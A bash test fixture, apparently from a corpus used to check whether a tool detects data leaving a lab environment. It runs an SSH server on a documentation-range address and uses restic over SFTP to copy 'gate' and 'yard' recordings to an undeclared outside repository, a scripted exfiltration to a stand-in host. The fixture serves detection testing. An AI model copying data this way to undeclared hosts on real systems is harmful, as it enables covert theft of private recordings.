#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export half=report tool=restic far=out ready=out:2022 seconds=30
# restic keeps the recordings, encrypted, at a place outside that nobody declared.
# shellcheck source=tests/corpus/far/ssh.sh
. "${0%/*}/../far/ssh.sh"
if [ "$1" = out ]; then ssh_keys; exec timeout 60 "${sshd[@]}" -o ListenAddress=203.0.113.66 -p 2022; fi
export RESTIC_PASSWORD=lab
r="sftp:root@203.0.113.66:$LAB/outside/restic"
c="ssh ${ssh[*]} -p 2022 root@203.0.113.66 -s sftp"
restic -q --no-cache -o sftp.command="$c" -r "$r" init
restic -q --no-cache -o sftp.command="$c" -r "$r" backup "$LAB/recordings/gate" "$LAB/recordings/yard"; true
